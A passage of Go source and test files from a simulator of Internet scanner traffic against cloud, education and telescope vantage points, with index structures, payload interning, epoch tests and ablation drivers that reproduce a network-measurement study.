	"cloudwatch/internal/wire"
)

// Universe is the set of monitored addresses an actor population
// scans: every honeypot IP (materialized as a Target) plus the
// telescope address blocks (kept as ranges — the paper's telescope
// spans 475K IPs, far too many to materialize per-address state for).
// It is the simulated stand-in for "the parts of the Internet our
// sensors can see".
type Universe struct {
	Seed int64
	Year int // dataset year (2020, 2021, 2022) for Appendix C variants

	// TelescopeBlocks are the darknet ranges; traffic to them reaches
	// the telescope collector, which records first packets only. The
	// slice must not change after the first telescope lookup
	// (InTelescope, TelescopeAddr, TelescopeIndex, TelescopeSize): the
	// lookups share a lazily-built block index.
	TelescopeBlocks []wire.Block

	targets []*Target
	byIP    map[wire.Addr]targetRef
	byID    map[string]targetRef
	regions map[string][]*Target

	telOnce sync.Once
	telIdx  *telescopeIndex

	svcOnce sync.Once
	svc     []*Target // memoized ServiceTargets

	s16Once sync.Once
	s16     []wire.Addr // memoized /16-start telescope addresses
}

// targetRef pairs a target with its interned vantage id — its position
// in the universe's target list. The collection pipeline stores the
// id, not the vantage string, in its record columns.
type targetRef struct {
	t   *Target
	idx int32
}

// telescopeIndex accelerates the per-address telescope lookups from
// O(blocks) linear scans to O(log blocks) binary searches: cumulative
// start offsets in block order (for index→address) and the blocks
// sorted by base address (for address→block).
type telescopeIndex struct {
	starts []int // starts[i] = global index of TelescopeBlocks[i]'s first address
	total  int
	bases  []wire.Addr // block base addresses, ascending
	order  []int       // order[j] = TelescopeBlocks index of bases[j]
}

func (u *Universe) telescopeIndexed() *telescopeIndex {
	u.telOnce.Do(func() {
		idx := &telescopeIndex{
			starts: make([]int, len(u.TelescopeBlocks)),
			order:  make([]int, len(u.TelescopeBlocks)),
			bases:  make([]wire.Addr, len(u.TelescopeBlocks)),
		}
		for i, b := range u.TelescopeBlocks {
			idx.starts[i] = idx.total
			idx.total += b.Size()
			idx.order[i] = i
		}
		sort.Slice(idx.order, func(a, b int) bool {
			return u.TelescopeBlocks[idx.order[a]].Base < u.TelescopeBlocks[idx.order[b]].Base
		})
		for j, i := range idx.order {
			idx.bases[j] = u.TelescopeBlocks[i].Base
		}
		u.telIdx = idx
	})
	return u.telIdx
}

// telescopeBlockOf locates the block containing an address, returning
// its TelescopeBlocks position. Telescope blocks never overlap, so the
// candidate is the block with the largest base ≤ ip.
func (u *Universe) telescopeBlockOf(ip wire.Addr) (int, bool) {
	idx := u.telescopeIndexed()
	j := sort.Search(len(idx.bases), func(k int) bool { return idx.bases[k] > ip }) - 1
	if j < 0 {
		return 0, false
	}
	i := idx.order[j]
	if !u.TelescopeBlocks[i].Contains(ip) {
		return 0, false
	}
	return i, true
}

// NewUniverse builds a universe over the given honeypot targets.
// Target IPs and IDs must be unique.
func NewUniverse(seed int64, year int, targets []*Target) (*Universe, error) {
	u := &Universe{
		Seed:    seed,
		Year:    year,
		byIP:    make(map[wire.Addr]targetRef, len(targets)),
		byID:    make(map[string]targetRef, len(targets)),
		regions: map[string][]*Target{},
	}
	for _, t := range targets {
		if t.ID == "" {
			return nil, fmt.Errorf("netsim: target %s has empty ID", t.IP)
		}
		if _, dup := u.byIP[t.IP]; dup {
			return nil, fmt.Errorf("netsim: duplicate target IP %s", t.IP)
		}
		if _, dup := u.byID[t.ID]; dup {
			return nil, fmt.Errorf("netsim: duplicate target ID %s", t.ID)
		}
		ref := targetRef{t, int32(len(u.targets))}
		u.byIP[t.IP] = ref
		u.byID[t.ID] = ref
		u.targets = append(u.targets, t)
		u.regions[t.Region] = append(u.regions[t.Region], t)
		t.ports = internPortSet(t.Ports)
	}
	return u, nil
}

// Targets returns every target in insertion order. The slice is
// shared; callers must not mutate it.
func (u *Universe) Targets() []*Target { return u.targets }

// ByIP resolves the target monitoring an address.
func (u *Universe) ByIP(ip wire.Addr) (*Target, bool) {
	ref, ok := u.byIP[ip]
	return ref.t, ok
}

// ByIPIndexed resolves the target monitoring an address together with
// its vantage id (position in Targets()) — the id the record columns
// store in place of the vantage string.
func (u *Universe) ByIPIndexed(ip wire.Addr) (*Target, int32, bool) {
	ref, ok := u.byIP[ip]
	return ref.t, ref.idx, ok
}

// ByID resolves a target by vantage identifier.
func (u *Universe) ByID(id string) (*Target, bool) {
	ref, ok := u.byID[id]
	return ref.t, ok
}

// VantageIndex resolves a vantage identifier to its vantage id —
// the inverse of Targets()[i].ID.
func (u *Universe) VantageIndex(id string) (int32, bool) {
	ref, ok := u.byID[id]
	return ref.idx, ok
}

// Region returns the targets of one region key.
func (u *Universe) Region(key string) []*Target { return u.regions[key] }

// Regions returns all region keys in sorted order.
func (u *Universe) Regions() []string {
	keys := make([]string, 0, len(u.regions))
	for k := range u.regions {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// Filter returns targets satisfying pred, in insertion order.
func (u *Universe) Filter(pred func(*Target) bool) []*Target {
	var out []*Target
	for _, t := range u.targets {
		if pred(t) {
			out = append(out, t)
		}
	}
	return out
}

// ServiceTargets returns targets on networks that host real services
// (cloud + education) — the set telescope-avoiding scanners restrict
// themselves to (§5.2). The slice is memoized (every actor walks it);
// callers must not mutate it.
func (u *Universe) ServiceTargets() []*Target {
	u.svcOnce.Do(func() {
		u.svc = u.Filter(func(t *Target) bool { return t.Kind != KindTelescope })
	})
	return u.svc
}

// TelescopeSlash16Starts returns the /16-start addresses within the
// telescope blocks, memoized — structure-biased pickers consult it per
// draw. Callers must not mutate the slice.
func (u *Universe) TelescopeSlash16Starts() []wire.Addr {
	u.s16Once.Do(func() {
		seen := map[wire.Addr]bool{}
		for _, b := range u.TelescopeBlocks {
			start := b.Base & 0xFFFF0000
			// Walk /16 boundaries overlapping the block.
			for a := start; ; a += 1 << 16 {
				if b.Contains(a) && !seen[a] {
					seen[a] = true
					u.s16 = append(u.s16, a)
				}
				if a+1<<16 < a || a+1<<16 > b.Base+wire.Addr(b.Size()) {
					break
				}
			}
		}
	})
	return u.s16
}

// InTelescope reports whether an address lies inside a telescope
// block.
func (u *Universe) InTelescope(ip wire.Addr) bool {
	_, ok := u.telescopeBlockOf(ip)
	return ok
}

// TelescopeSize returns the total number of telescope addresses.
func (u *Universe) TelescopeSize() int {
	return u.telescopeIndexed().total
}

// TelescopeAddr maps a global index in [0, TelescopeSize()) to the
// corresponding telescope address, block by block. It panics when i is
// out of range, mirroring slice indexing.
func (u *Universe) TelescopeAddr(i int) wire.Addr {
	idx := u.telescopeIndexed()
	if i < 0 || i >= idx.total {
		panic(fmt.Sprintf("netsim: telescope index %d out of range", i))
	}
	// Rightmost block whose start offset is ≤ i.
	b := sort.SearchInts(idx.starts, i+1) - 1
	return u.TelescopeBlocks[b].Nth(i - idx.starts[b])
}

// TelescopeIndex maps a telescope address to its global index in
// [0, TelescopeSize()) — the inverse of TelescopeAddr — reporting
// false for addresses outside every telescope block.
func (u *Universe) TelescopeIndex(ip wire.Addr) (int, bool) {
	i, ok := u.telescopeBlockOf(ip)
	if !ok {
		return 0, false
	}
	off, _ := u.TelescopeBlocks[i].Index(ip)
	return u.telescopeIndexed().starts[i] + off, true
}
