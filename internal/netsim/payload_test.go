package netsim

import (
	"bytes"
	"fmt"
	"math/rand"
	"sync"
	"testing"
	"time"

	"cloudwatch/internal/wire"
)

func TestInternPayloadDedupAndCopy(t *testing.T) {
	buf := []byte("intern-dedup-test-payload-A")
	id := InternPayload(buf)
	if id == 0 {
		t.Fatal("non-empty payload interned as 0")
	}
	if got := InternPayload([]byte("intern-dedup-test-payload-A")); got != id {
		t.Fatalf("same content interned twice: %d vs %d", got, id)
	}
	stored := PayloadBytes(id)
	if !bytes.Equal(stored, buf) {
		t.Fatalf("stored bytes differ: %q", stored)
	}
	if &stored[0] == &buf[0] {
		t.Fatal("interner aliases the caller's buffer")
	}
	buf[0] = 'X'
	if !bytes.Equal(PayloadBytes(id), []byte("intern-dedup-test-payload-A")) {
		t.Fatal("mutating the caller's buffer changed the interned bytes")
	}

	if InternPayload(nil) != 0 || InternPayload([]byte{}) != 0 {
		t.Fatal("empty payloads must intern as 0")
	}
	if PayloadBytes(0) != nil {
		t.Fatal("PayloadBytes(0) must be nil")
	}

	if got, ok := LookupPayload([]byte("intern-dedup-test-payload-A")); !ok || got != id {
		t.Fatalf("LookupPayload = %d,%v, want %d,true", got, ok, id)
	}
	if _, ok := LookupPayload([]byte("never-interned-payload-xyzzy")); ok {
		t.Fatal("LookupPayload found a never-interned payload")
	}
}

func TestInternPayloadConcurrent(t *testing.T) {
	const goroutines = 8
	const distinct = 64
	ids := make([][]PayloadID, goroutines)
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		g := g
		ids[g] = make([]PayloadID, distinct)
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < distinct; i++ {
				ids[g][i] = InternPayload([]byte(fmt.Sprintf("concurrent-intern-%d", i)))
			}
		}()
	}
	wg.Wait()
	for g := 1; g < goroutines; g++ {
		for i := 0; i < distinct; i++ {
			if ids[g][i] != ids[0][i] {
				t.Fatalf("goroutine %d got id %d for payload %d, goroutine 0 got %d",
					g, ids[g][i], i, ids[0][i])
			}
		}
	}
}

// TestStreamMatchesMathRand is the bit-compatibility guarantee of the
// vendored lagged-Fibonacci source: for any seed, the cached-clone
// Stream path must draw exactly what math/rand's NewSource draws —
// every recorded output in the repo depends on it.
func TestStreamMatchesMathRand(t *testing.T) {
	for _, seed := range []int64{0, 1, 42, -7, 89482311, 1 << 40, -(1 << 50)} {
		ours := &lfgSource{}
		ours.Seed(seed)
		ref := rand.NewSource(seed).(rand.Source64)
		for i := 0; i < 2000; i++ {
			if g, w := ours.Uint64(), ref.Uint64(); g != w {
				t.Fatalf("seed %d draw %d: lfgSource %d != rngSource %d", seed, i, g, w)
			}
		}
	}

	// The Stream cache: repeated derivations of the same stream yield
	// identical sequences (a fresh clone each time, not a shared
	// stateful source).
	a := Stream(42, "bit-compat")
	b := Stream(42, "bit-compat")
	if a == b {
		t.Fatal("Stream returned a shared *rand.Rand")
	}
	for i := 0; i < 1000; i++ {
		if x, y := a.Int63(), b.Int63(); x != y {
			t.Fatalf("draw %d: cloned streams diverge (%d vs %d)", i, x, y)
		}
	}
}

func TestRecordBlockRoundTrip(t *testing.T) {
	var blk RecordBlock
	pay := InternPayload([]byte("block-roundtrip-payload"))
	creds := []Credential{{Username: "root", Password: "toor"}}
	times := []time.Time{
		StudyStart,
		StudyStart.Add(90*time.Minute + 123456789*time.Nanosecond),
		StudyStart.Add(167 * time.Hour),
	}
	for i, ts := range times {
		p := &Probe{
			T: ts, Src: wire.Addr(0x0a000001 + i), ASN: 4134,
			Port: 23, Transport: wire.TCP,
		}
		var c []Credential
		if i == 1 {
			c = creds
		}
		blk.Append(int32(i), p, pay, c)
	}
	if blk.Len() != len(times) {
		t.Fatalf("Len = %d, want %d", blk.Len(), len(times))
	}
	for i, ts := range times {
		if !blk.Time(i).Equal(ts) {
			t.Fatalf("record %d: time %v, want %v (exact reconstruction)", i, blk.Time(i), ts)
		}
		if blk.Time(i) != ts {
			t.Fatalf("record %d: reconstructed time differs bit-for-bit", i)
		}
		if got, want := blk.Hour(i), HourOf(ts); got != want {
			t.Fatalf("record %d: hour %d, want %d", i, got, want)
		}
		rec := blk.Record(i, "v")
		if !bytes.Equal(rec.Payload, PayloadBytes(pay)) || rec.Pay != pay {
			t.Fatalf("record %d: payload not reconstructed", i)
		}
		if !rec.Handshake {
			t.Fatalf("record %d: handshake not set", i)
		}
	}
	if blk.CredsAt(0) != nil || blk.CredsAt(2) != nil {
		t.Fatal("credless records must reconstruct nil creds")
	}
	if got := blk.CredsAt(1); len(got) != 1 || got[0] != creds[0] {
		t.Fatalf("creds not reconstructed: %+v", got)
	}

	// AppendRange rebases credential-arena indexes.
	var merged RecordBlock
	merged.Append(9, &Probe{T: StudyStart, Port: 1, Transport: wire.TCP}, 0,
		[]Credential{{Username: "pre", Password: "existing"}})
	merged.CredLists = append(merged.CredLists, blk.CredLists...)
	merged.AppendRange(&blk, 0, blk.Len(), 1)
	if got := merged.CredsAt(2); len(got) != 1 || got[0] != creds[0] {
		t.Fatalf("AppendRange cred rebase broken: %+v", got)
	}
}

func TestTargetListensOnBitset(t *testing.T) {
	withSet := &Target{ID: "a", IP: 1, Ports: []uint16{22, 80, 17128}}
	wild := &Target{ID: "b", IP: 2} // nil ports = telescope wildcard
	if _, err := NewUniverse(1, 2021, []*Target{withSet, wild}); err != nil {
		t.Fatal(err)
	}
	if withSet.ports == nil {
		t.Fatal("universe did not install the port bitset")
	}
	for _, port := range []uint16{22, 80, 17128} {
		if !withSet.ListensOn(port) {
			t.Fatalf("port %d should be open", port)
		}
	}
	for _, port := range []uint16{21, 23, 443, 8080, 65535} {
		if withSet.ListensOn(port) {
			t.Fatalf("port %d should be closed", port)
		}
	}
	if !wild.ListensOn(1) || !wild.ListensOn(65535) {
		t.Fatal("telescope wildcard must listen everywhere")
	}
	// Identical port lists share one interned bitset.
	other := &Target{ID: "c", IP: 3, Ports: []uint16{22, 80, 17128}}
	if _, err := NewUniverse(1, 2021, []*Target{other}); err != nil {
		t.Fatal(err)
	}
	if other.ports != withSet.ports {
		t.Fatal("identical port lists did not share an interned bitset")
	}
	// Targets built outside a universe fall back to the linear scan.
	loose := &Target{ID: "d", IP: 4, Ports: []uint16{7}}
	if !loose.ListensOn(7) || loose.ListensOn(8) {
		t.Fatal("fallback ListensOn broken")
	}
}

func TestASKeyMemoized(t *testing.T) {
	for _, a := range AllAS() {
		want := fmt.Sprintf("AS%d %s", a.ASN, a.Name)
		if a.Key() != want {
			t.Fatalf("AS %d: Key() = %q, want %q", a.ASN, a.Key(), want)
		}
		if ASKeyOf(a.ASN) != want {
			t.Fatalf("ASKeyOf(%d) = %q, want %q", a.ASN, ASKeyOf(a.ASN), want)
		}
	}
	if got := ASKeyOf(424242); got != "AS424242" {
		t.Fatalf("unknown ASN key = %q, want AS424242", got)
	}
	handBuilt := AS{ASN: 99, Name: "Hand Built"}
	if handBuilt.Key() != "AS99 Hand Built" {
		t.Fatalf("hand-built AS key = %q", handBuilt.Key())
	}
}

func TestVantageIndexRoundTrip(t *testing.T) {
	targets := []*Target{
		{ID: "x", IP: 10}, {ID: "y", IP: 11}, {ID: "z", IP: 12},
	}
	u, err := NewUniverse(1, 2021, targets)
	if err != nil {
		t.Fatal(err)
	}
	for i, tgt := range u.Targets() {
		vi, ok := u.VantageIndex(tgt.ID)
		if !ok || vi != int32(i) {
			t.Fatalf("VantageIndex(%s) = %d,%v, want %d,true", tgt.ID, vi, ok, i)
		}
		got, gi, ok := u.ByIPIndexed(tgt.IP)
		if !ok || got != tgt || gi != int32(i) {
			t.Fatalf("ByIPIndexed(%v) mismatch", tgt.IP)
		}
	}
	if _, ok := u.VantageIndex("missing"); ok {
		t.Fatal("VantageIndex found a missing vantage")
	}
}
