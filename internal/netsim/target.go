package netsim

import (
	"sync"
	"time"

	"cloudwatch/internal/wire"
)

// NetworkKind distinguishes the three vantage-network categories of
// the paper: clouds and education networks host real services;
// telescopes are publicly known not to.
type NetworkKind int

// Network kinds.
const (
	KindCloud NetworkKind = iota
	KindEducation
	KindTelescope
)

// String names the kind.
func (k NetworkKind) String() string {
	switch k {
	case KindCloud:
		return "cloud"
	case KindEducation:
		return "education"
	case KindTelescope:
		return "telescope"
	default:
		return "unknown"
	}
}

// CollectorKind selects the collection method of a vantage point
// (§3.1, Table 1).
type CollectorKind int

// Collection methods.
const (
	// CollectGreyNoise: interactive SSH/Telnet credential capture
	// (Cowrie), TCP/TLS handshake + first payload elsewhere.
	CollectGreyNoise CollectorKind = iota
	// CollectHoneytrap: first TCP payload after handshake, first UDP
	// payload; no protocol interaction.
	CollectHoneytrap
	// CollectTelescope: first packet only, no handshake, no payloads.
	CollectTelescope
)

// String names the collection method.
func (c CollectorKind) String() string {
	switch c {
	case CollectGreyNoise:
		return "greynoise"
	case CollectHoneytrap:
		return "honeytrap"
	case CollectTelescope:
		return "telescope"
	default:
		return "unknown"
	}
}

// Geo locates a vantage point or region.
type Geo struct {
	Country   string // ISO code, e.g. "US", "SG"
	Sub       string // state/province for US/CA, else ""
	City      string // datacenter city label, e.g. "FRA"
	Continent string // "NA", "EU", "APAC", "OTHER"
}

// Label renders "US-CA" or "SG".
func (g Geo) Label() string {
	if g.Sub != "" {
		return g.Country + "-" + g.Sub
	}
	return g.Country
}

// Target is one monitored IP address (honeypot or telescope address)
// with the attributes actors use for target selection and the analysis
// uses for grouping.
type Target struct {
	ID        string // stable vantage identifier, e.g. "aws:ap-sydney:2"
	IP        wire.Addr
	Network   string // "aws", "google", "azure", "linode", "he", "stanford", "merit", "orion"
	Kind      NetworkKind
	Region    string // region key, e.g. "aws:ap-sydney"; groups neighborhoods
	Geo       Geo
	Collector CollectorKind
	Ports     []uint16 // listening ports; nil means all ports (telescope)

	// Search-engine service history (§4.3). Mutable during a study:
	// the engines' crawls flip the Indexed flags.
	IndexedCensys bool
	IndexedShodan bool
	PrevIndexed   bool // IP previously hosted an indexed service
	BlockSearch   bool // control group: Censys/Shodan blocked

	// Leak-experiment controls (§4.3, "leaked" group): exactly one
	// engine is allowed to discover exactly one service.
	LeakEngine string // "censys" or "shodan"; "" when not in the leaked group
	LeakPort   uint16 // the single port that engine may index

	// EmulateAuth marks Honeytrap targets that emulate SSH/Telnet/HTTP
	// services (the §4.3 experiment honeypots) and therefore capture
	// login credentials; plain Honeytrap deployments record first
	// payloads only.
	EmulateAuth bool

	// ports is the interned bitset over Ports, installed by NewUniverse
	// so the per-probe ListensOn checks in the scanners and collectors
	// are single bit tests instead of linear scans. nil (targets built
	// outside a universe) falls back to scanning Ports.
	ports *portSet
}

// portSet is a 65536-bit port membership set. Identical port lists
// share one set via the intern table below, so a fleet of thousands of
// same-shaped honeypots costs a handful of 8 KiB bitmaps.
type portSet [1024]uint64

func (ps *portSet) has(port uint16) bool {
	return ps[port>>6]&(1<<(port&63)) != 0
}

var portSets = struct {
	sync.Mutex
	m map[string]*portSet
}{m: map[string]*portSet{}}

// internPortSet returns the shared bitset of a port list (nil for a
// nil list — the telescope's "all ports" wildcard).
func internPortSet(ports []uint16) *portSet {
	if ports == nil {
		return nil
	}
	key := make([]byte, 0, 2*len(ports))
	for _, p := range ports {
		key = append(key, byte(p>>8), byte(p))
	}
	portSets.Lock()
	defer portSets.Unlock()
	if ps, ok := portSets.m[string(key)]; ok {
		return ps
	}
	ps := &portSet{}
	for _, p := range ports {
		ps[p>>6] |= 1 << (p & 63)
	}
	portSets.m[string(key)] = ps
	return ps
}

// ListensOn reports whether the target accepts connections on port.
// Telescope addresses "listen" on every port (they passively record
// all traffic).
func (t *Target) ListensOn(port uint16) bool {
	if t.ports != nil {
		return t.ports.has(port)
	}
	if t.Ports == nil {
		return true
	}
	for _, p := range t.Ports {
		if p == port {
			return true
		}
	}
	return false
}

// Indexed reports whether either search engine currently lists the
// target.
func (t *Target) Indexed() bool { return t.IndexedCensys || t.IndexedShodan }

// Credential is one username/password attempt against an interactive
// honeypot.
type Credential struct {
	Username string
	Password string
}

// Probe is one scanner packet arriving at a target: the unit of
// simulated traffic. For interactive protocols (SSH/Telnet) Creds
// carries the login attempts the actor would make if the collector
// completes the protocol handshake; collectors that don't interact
// simply never observe them.
//
// Payloads travel as interned ids: the scanner dictionaries register
// their corpora with the study-wide interner once and emitters set
// Pay, so the collection pipeline never hashes or copies payload
// bytes per probe. Raw emitters (tests, replayed captures) may set
// Payload instead; collectors intern it on first sight.
type Probe struct {
	T         time.Time
	Src       wire.Addr
	ASN       int
	Dst       wire.Addr
	Port      uint16
	Transport wire.Transport
	Pay       PayloadID
	Payload   []byte // raw fallback when the emitter has no id
	Creds     []Credential
}

// PayID resolves the probe's payload id, interning a raw Payload if
// the emitter did not carry one.
func (p *Probe) PayID() PayloadID {
	if p.Pay != 0 || len(p.Payload) == 0 {
		return p.Pay
	}
	return InternPayload(p.Payload)
}

// HasPayload reports whether the probe carries any payload bytes,
// interned or raw.
func (p *Probe) HasPayload() bool { return p.Pay != 0 || len(p.Payload) > 0 }

// Record is a probe as observed by a collector: the collector decides
// which fields survive (telescopes drop payloads and credentials;
// GreyNoise drops payloads on interactive ports but keeps
// credentials).
//
// Record is the row-oriented compatibility view of the study's
// columnar storage (RecordBlock): the pipeline stores records as
// struct-of-arrays with interned payload ids and reconstructs Record
// values on demand. A reconstructed Record's Payload aliases the
// interner's immutable copy — never an actor dictionary or emitter
// buffer — so callers may hold it indefinitely; they must not mutate
// it. Pay is the interned payload id (0 when the record carries no
// payload, or when the record was built outside the simulator and
// never interned).
type Record struct {
	Vantage   string // Target.ID
	T         time.Time
	Src       wire.Addr
	ASN       int
	Port      uint16
	Transport wire.Transport
	Pay       PayloadID
	Payload   []byte       // nil when the collector does not capture payloads
	Creds     []Credential // non-nil only for interactive collectors
	Handshake bool         // whether the collector completed the TCP handshake
}

// StudyStart is the canonical collection start: July 1, 2021 00:00 UTC
// (§3.4: "data collected during the first week of July 2021").
var StudyStart = time.Date(2021, time.July, 1, 0, 0, 0, 0, time.UTC)

// StudyHours is the length of one collection window in hours (July
// 1–7).
const StudyHours = 7 * 24

// HourOf returns the zero-based study hour of a timestamp, clamped to
// [0, StudyHours-1]; the Table 3 traffic-per-hour series are built on
// it.
func HourOf(t time.Time) int {
	h := int(t.Sub(StudyStart).Hours())
	if h < 0 {
		return 0
	}
	if h >= StudyHours {
		return StudyHours - 1
	}
	return h
}
