package netsim

import "testing"

func TestEpochBoundsPartitionTheWeek(t *testing.T) {
	total := int32(StudyHours) * 3600
	for _, n := range []int{1, 2, 3, 5, 7, 8, 11, 24, 64} {
		eb := NewEpochs(n)
		if eb.NumEpochs() != n {
			t.Fatalf("n=%d: NumEpochs = %d", n, eb.NumEpochs())
		}
		if eb.Bound(0) != 0 || eb.Bound(n) != total {
			t.Fatalf("n=%d: bounds [%d, %d], want [0, %d]", n, eb.Bound(0), eb.Bound(n), total)
		}
		for i := 1; i <= n; i++ {
			if eb.Bound(i) <= eb.Bound(i-1) {
				t.Fatalf("n=%d: bound %d not ascending", n, i)
			}
		}
	}
}

func TestEpochOfMatchesBounds(t *testing.T) {
	total := int32(StudyHours) * 3600
	for _, n := range []int{1, 3, 5, 7, 8, 11, 13, 64} {
		eb := NewEpochs(n)
		// Reference: linear scan over the bounds.
		ref := func(sec int32) int {
			for i := n - 1; i > 0; i-- {
				if sec >= eb.Bound(i) {
					return i
				}
			}
			return 0
		}
		// Every boundary ±1 plus a coarse sweep.
		var secs []int32
		for i := 0; i <= n; i++ {
			b := eb.Bound(i)
			secs = append(secs, b-1, b, b+1)
		}
		for s := int32(0); s < total; s += 997 {
			secs = append(secs, s)
		}
		secs = append(secs, total, total+5000) // burst spill past the week
		for _, sec := range secs {
			if sec < 0 {
				continue
			}
			want := ref(sec)
			if sec >= total {
				want = n - 1 // clamp
			}
			if got := eb.EpochOf(sec); got != want {
				t.Fatalf("n=%d: EpochOf(%d) = %d, want %d", n, sec, got, want)
			}
		}
	}
}

func TestEpochWindowRoundTrips(t *testing.T) {
	eb := NewEpochs(4)
	for i := 0; i < 4; i++ {
		start, end := eb.Window(i)
		if s, _ := StudySeconds(start); s != eb.Bound(i) {
			t.Fatalf("epoch %d window start %v != bound %d", i, start, eb.Bound(i))
		}
		if e, _ := StudySeconds(end); e != eb.Bound(i+1) {
			t.Fatalf("epoch %d window end %v != bound %d", i, end, eb.Bound(i+1))
		}
	}
	if NewEpochs(0).NumEpochs() != 1 || NewEpochs(-3).NumEpochs() != 1 {
		t.Fatal("degenerate epoch counts should clamp to 1")
	}
	// Epoch counts beyond the week's seconds clamp to one-second
	// epochs instead of producing zero-width bounds (which would make
	// EpochOf divide by zero).
	total := int(StudyHours) * 3600
	huge := NewEpochs(total + 123456)
	if huge.NumEpochs() != total {
		t.Fatalf("oversized epoch count = %d epochs, want %d", huge.NumEpochs(), total)
	}
	if got := huge.EpochOf(0); got != 0 {
		t.Fatalf("EpochOf(0) = %d on one-second epochs", got)
	}
	if got := huge.EpochOf(int32(total) + 99); got != total-1 {
		t.Fatalf("past-week EpochOf = %d, want %d", got, total-1)
	}
}
