package core

import (
	"fmt"
	"strings"

	"cloudwatch/internal/cloud"
)

// Ablations of the paper's §3.3 methodology choices. The paper argues
// (footnote 2) that comparing top-3 values "decreases bias toward
// small distributional differences" — expanding to top-5 inflates the
// number of near-zero frequency cells — and (§4.4) that comparing
// median expected values across honeypot groups filters out single-IP
// attacker preferences. These drivers quantify both claims on the
// simulated data.

// AblationTopKResult reports how the neighborhood-difference rate of
// Table 2 moves as K grows.
type AblationTopKResult struct {
	K         []int
	DiffFrac  []float64 // fraction of SSH/22 neighborhoods with different top-K AS sets
	AvgCells  []float64 // mean contingency-table width (near-zero cell growth)
	ZeroCells []float64 // mean count of cells observed zero on one side
}

// AblationTopK re-runs the Table 2 SSH/22 top-AS comparison at
// several K values through the batched family runner; the K=3 family
// is the same memo entry Table 2 itself uses, and the runner's
// per-pair union width / near-zero-cell counts feed the footnote-2
// metrics directly.
func (s *Study) AblationTopK(ks ...int) AblationTopKResult {
	if len(ks) == 0 {
		ks = []int{1, 3, 5, 10}
	}
	res := AblationTopKResult{}
	nbs := s.greyNoiseNeighborhoods(SliceSSH22)
	pairs, labels, refs := neighborhoodPairs(nbs)
	for _, k := range ks {
		fr := s.pairwiseFamily("neighborhood", SliceSSH22, CharTopAS, k, func() famJob {
			return famJob{sides: s.neighborhoodSides(nbs, CharTopAS), pairs: pairs, labels: labels}
		})
		regions := map[string]bool{}
		diff := map[string]bool{}
		cells, zeros, tables := 0, 0, 0
		m := fr.fam.Comparisons()
		for idx, p := range fr.fam.Pairs {
			if fr.width[idx] > 0 { // testable pair: both sides had traffic
				cells += fr.width[idx]
				zeros += fr.zeros[idx]
				tables++
			}
			if !p.OK {
				continue
			}
			regions[refs[idx]] = true
			if p.Result.Significant(Alpha, m) {
				diff[refs[idx]] = true
			}
		}
		frac := 0.0
		if len(regions) > 0 {
			frac = float64(len(diff)) / float64(len(regions))
		}
		avgCells, avgZeros := 0.0, 0.0
		if tables > 0 {
			avgCells = float64(cells) / float64(tables)
			avgZeros = float64(zeros) / float64(tables)
		}
		res.K = append(res.K, k)
		res.DiffFrac = append(res.DiffFrac, frac)
		res.AvgCells = append(res.AvgCells, avgCells)
		res.ZeroCells = append(res.ZeroCells, avgZeros)
	}
	return res
}

// Render formats the top-K ablation.
func (r AblationTopKResult) Render() string {
	t := newTable("Ablation: top-K sensitivity of the SSH/22 neighborhood comparison (§3.3 footnote 2)",
		"K", "% neighborhoods different", "avg table width", "avg near-zero cells")
	for i := range r.K {
		t.add(fmt.Sprint(r.K[i]), fmtPct(r.DiffFrac[i]),
			fmt.Sprintf("%.1f", r.AvgCells[i]), fmt.Sprintf("%.1f", r.ZeroCells[i]))
	}
	return t.String()
}

// AblationMedianResult contrasts the §4.4 median group filter with a
// naive sum when comparing same-city cloud pairs (Table 7): without
// the filter, single-honeypot attacker latches bleed into group
// comparisons and manufacture spurious differences.
type AblationMedianResult struct {
	MedianDiff int // significantly different cloud-cloud pairs, median filter
	SumDiff    int // same with naive per-group summing
	Pairs      int
}

// AblationMedianFilter compares the two aggregation strategies on the
// cloud–cloud SSH/22 top-AS comparison, each as one batched family.
func (s *Study) AblationMedianFilter() AblationMedianResult {
	pairs := cloud.CloudCloudPairs()
	res := AblationMedianResult{}
	for _, agg := range []string{"median", "sum"} {
		agg := agg
		fr := s.pairwiseFamily("ablmedian:"+agg, SliceSSH22, CharTopAS, TopK, func() famJob {
			group := func(region string) *View {
				if agg == "median" {
					return s.regionGroupView(region, SliceSSH22)
				}
				return s.sumRegionView(region, SliceSSH22)
			}
			return regionPairJob(s, pairs, CharTopAS, group)
		})
		n := len(fr.fam.Significant())
		if agg == "median" {
			res.MedianDiff = n
			res.Pairs = fr.fam.Comparisons()
		} else {
			res.SumDiff = n
		}
	}
	return res
}

// sumRegionView merges a region's views by summing counts (no median
// filtering) — the naive aggregation the paper warns against.
func (s *Study) sumRegionView(region string, slice ProtocolSlice) *View {
	out := NewView(slice)
	for _, t := range s.U.Region(region) {
		if t.Collector.String() != "greynoise" {
			continue
		}
		v := s.VantageView(t.ID, slice)
		for k, c := range v.AS {
			out.AS.Add(k, c)
		}
		out.Malicious += v.Malicious
		out.Benign += v.Benign
		out.Total += v.Total
	}
	return out
}

// Render formats the median-filter ablation.
func (r AblationMedianResult) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Ablation: §4.4 median group filter on cloud-cloud SSH/22 top-AS comparisons\n")
	fmt.Fprintf(&b, "  median filter: %d/%d pairs significantly different\n", r.MedianDiff, r.Pairs)
	fmt.Fprintf(&b, "  naive sum:     %d/%d pairs significantly different\n", r.SumDiff, r.Pairs)
	fmt.Fprintf(&b, "  (the filter damps single-honeypot attacker latches; sums inherit them)\n")
	return b.String()
}
