package core

import (
	"fmt"
	"runtime"
	"testing"
)

// TestIncrementalMatchesFromScratch is the incremental-assembly
// equivalence matrix: for seeds 42/7 × years 2020–2022 × generation
// Workers 1/4/GOMAXPROCS, every snapshot the incremental chain
// produces renders every table, figure, and ablation byte-identically
// to the from-scratch assembler at the same prefix. Every chain
// snapshot is rendered only after the whole chain is assembled, so the
// comparison also proves later appends never disturb an earlier
// published snapshot (the chain shares column backing arrays).
func TestIncrementalMatchesFromScratch(t *testing.T) {
	seeds := []int64{42, 7}
	years := []int{2020, 2021, 2022}
	if testing.Short() {
		seeds = seeds[:1]
		years = []int{2021}
	}
	const epochs = 4
	workersList := []int{1, 4, runtime.GOMAXPROCS(0)}

	for _, seed := range seeds {
		for _, year := range years {
			t.Run(fmt.Sprintf("seed%d-year%d", seed, year), func(t *testing.T) {
				for _, workers := range workersList {
					cfg := testConfig(seed, year)
